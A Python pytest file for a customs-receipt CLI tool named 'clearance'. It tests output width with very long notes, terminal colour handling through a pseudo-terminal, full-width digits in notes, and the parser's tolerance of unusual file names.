def test_a_table_stays_readable_beside_a_note_of_100_000_characters(
    call: Run, told: Mapping[str, str]
) -> None:
    text = call("status", told["long E"], told["wide E"]).text
    assert max(map(len, text.splitlines())) < 1000


def on_terminal(environment: Mapping[str, str], *arguments: str) -> bytes:
    """What a command writes to a terminal of its own."""
    import pty

    ours, theirs = pty.openpty()
    with subprocess.Popen(
        [sys.executable, "-m", "clearance", *arguments],
        stdin=theirs,
        stdout=theirs,
        stderr=theirs,
        env=dict(environment),
    ) as process:
        os.close(theirs)
        written = b""
        with suppress(OSError):  # the terminal is gone when the command is
            while piece := os.read(ours, 65536):
                written += piece
        os.close(ours)
    assert process.returncode == 0, written[-2000:].decode(errors="replace")
    return written


@posix
@pytest.mark.parametrize(
    ("command", "terminal"),
    [("status", "xterm-256color"), ("explain", "dumb"), ("alerts", "xterm"), ("refused", "dumb")],
)
def test_on_a_terminal_only_our_own_colours_are_sent(
    environment: Mapping[str, str], told: Mapping[str, str], command: str, terminal: str
) -> None:
    short = [number for name, number in told.items() if not name.startswith(("long", "wide"))]
    refs = short if command in ("status", "explain") else []
    arguments = [command, *refs, *(["list"] if command == "alerts" else [])]
    sent = on_terminal({**environment, "TERM": terminal, "COLUMNS": "100"}, *arguments)
    text = sent if terminal == "dumb" else re.sub(rb"\x1b\[[0-9;]*m", b"", sent)
    harmless(text, "utf-8")
    assert b"[/x]" in text or command == "refused"


def test_a_note_in_full_width_digits_is_a_note_and_no_number() -> None:
    note = f"I{'２０２６'}{'０' * 13}直接申报成功"
    [event] = clearance.parse(receipt(NOTE=note))
    assert event.note == note
    assert [value for _, value in event.references] == ["I20260000000000099"]


def test_what_is_parsed_may_be_called_anything() -> None:
    for name in ("", "/", "\x1b[2J", "\udcff", "a" * 100_000, "Receipt_\n_x.xml", "Failed__.xml"):
        assert clearance.parse(GOOD.data, name)
